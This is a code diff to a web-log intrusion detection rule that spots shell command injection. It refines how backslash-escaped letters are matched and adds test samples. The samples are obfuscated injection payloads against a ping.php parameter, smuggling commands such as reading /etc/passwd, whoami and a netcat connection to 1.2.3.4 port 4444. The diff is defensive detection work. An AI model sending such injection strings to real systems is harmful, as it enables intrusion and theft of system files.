@@ -42,17 +42,20 @@ _SUBSTITUTION = linear_search(
     )
 )
 _HEADER_FIELDS = frozenset({"user_agent", "cookie", "headers"})
-# A backslash before a letter, as logged (case-folded): what the shell's reading drops.
-_ESCAPED_LETTERS = tuple("\\" + letter for letter in "abcdefghijklmnopqrstuvwxyz")
+# A backslash before a letter, as logged (case-folded): what the shell's reading drops. "\x"
+# before two hex digits apart: a byte as Apache's error log escapes it, or a JavaScript
+# escape, which the decoded text already reads (its copy has ";id" for "\x3bid"); a shell
+# makes "x3b" of it, no command. One RE2 pass: 26 substring tests cost 0.5-0.8 ms on 32 KB.
+_ESCAPED_LETTER = linear_search(Regex(r"\\(?:[a-wyz]|x(?:$|[^0-9a-f]|[0-9a-f](?:$|[^0-9a-f])))"))
 
 
 def _shell_differs(raw: str) -> bool:
     """Whether the shell's reading of a field (case-folded ``raw``) can differ from the
-    decoded one: a backslash before a letter, or an encoded backslash (one C-level test per
-    letter: a field of 8,000 backslashes is not decoded a second time)."""
+    decoded one: a backslash before a letter (not an escaped byte, ``\\x1b``), or an encoded
+    backslash. A field of 8,000 escaped bytes is not decoded a second time."""
     if "%5c" in raw or "255c" in raw:
         return True
-    return any(escaped in raw for escaped in _ESCAPED_LETTERS)
+    return "\\" in raw and _ESCAPED_LETTER.search(raw) is not None
 
 
 class CommandShellChain(PatternRule):
@@ -143,6 +146,9 @@ class CommandShellChain(PatternRule):
         AccessSample(target="/ping.php?ip=127.0.0.1;i\\d"),
         AccessSample(target="/ping.php?ip=127.0.0.1%7Cc%5Ca%5Ct%20/etc/passwd"),
         AccessSample(target="/", user_agent="$(w\\hoami)"),
+        # "\x" before no two hex digits is the shell's escape; escaped bytes ("\x1b") are not.
+        AccessSample(target="/ping.php?ip=127.0.0.1;\\xxd%20index.php"),
+        AccessSample(target="/ping.php?ip=\\x1b\\x00127.0.0.1;w\\hoami"),
         # A command with the arguments that make it one, after a separator and a space.
         AccessSample(target="/ping.php?ip=127.0.0.1%7C%20nc%201.2.3.4%204444"),
         AccessSample(target="/ping.php?ip=127.0.0.1;%20sleep%205"),
